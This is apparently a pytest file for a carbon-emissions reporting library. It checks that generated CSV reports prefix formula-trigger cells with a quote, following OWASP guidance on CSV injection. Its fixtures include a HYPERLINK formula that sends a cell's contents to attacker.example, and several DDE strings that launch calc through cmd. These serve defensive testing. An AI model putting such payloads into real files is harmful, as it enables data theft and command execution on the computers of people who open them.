"""No CSV the project writes starts a cell with a spreadsheet formula trigger (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any, Dict, List

import pytest
from report_data import make_tracking_data

from hf_eco2ai import generate_carbon_report
from hf_eco2ai.reporting.emissions_csv import append_emissions_row, emissions_row

TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]
HOSTILE = '=HYPERLINK("http://attacker.example/?x="&A1,"open")'


def _cells(text: str) -> List[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _hostile_run(value: str) -> Dict[str, Any]:
    data = make_tracking_data(step_count=4, steps_per_epoch=2, project_name=value)
    data["run"]["experiment_id"] = value
    data["run"]["model_name"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    data["intensity"]["zone"] = "+cmd|' /C calc'!A0"
    data["warnings"].append({"code": "sensor-failed", "message": "-2+3+cmd|' /C calc'!A0"})
    return data


@pytest.mark.parametrize("output_format", ["csv", "csv-summary"])
@pytest.mark.parametrize("trigger", TRIGGERS)
def test_no_text_cell_starts_with_a_formula_trigger(output_format: str, trigger: str) -> None:
    text = generate_carbon_report(_hostile_run(trigger + HOSTILE[1:]), output_format)
    for cell in _cells(text):
        if not _is_number(cell):
            assert not cell.startswith(tuple(TRIGGERS)), cell


def test_neutralised_cells_keep_their_text_after_a_quote() -> None:
    cells = _cells(generate_carbon_report(_hostile_run(HOSTILE), "csv-summary"))
    assert "'" + HOSTILE in cells
    assert "'-2+3+cmd|' /C calc'!A0" in cells


def test_negative_numbers_stay_numbers() -> None:
    data = make_tracking_data(step_count=4, steps_per_epoch=2)
    data["steps"][0]["t0_s"] = -0.25
    cells = _cells(generate_carbon_report(data, "csv"))
    assert "-0.25" in cells


def test_ordinary_names_are_written_unchanged() -> None:
    cells = _cells(generate_carbon_report(make_tracking_data(step_count=4, steps_per_epoch=2), "csv-summary"))
    assert "sentiment-analysis" in cells


def test_emissions_csv_neutralises_names_even_behind_leading_spaces(tmp_path: Path) -> None:
    report = make_tracking_data(step_count=4, steps_per_epoch=2, project_name='  =HYPERLINK("http://x")')
    report["steps_marked"], report["samples_total"] = 4, None
    report["run"]["experiment_id"] = "@SUM(1)"
    path = append_emissions_row(tmp_path, emissions_row(report, "finished", None))
    cells = _cells(path.read_text())
    assert '\'  =HYPERLINK("http://x")' in cells and "'@SUM(1)" in cells
    for cell in cells:
        if not _is_number(cell):
            assert not cell.lstrip(" ").startswith(tuple(TRIGGERS)), cell
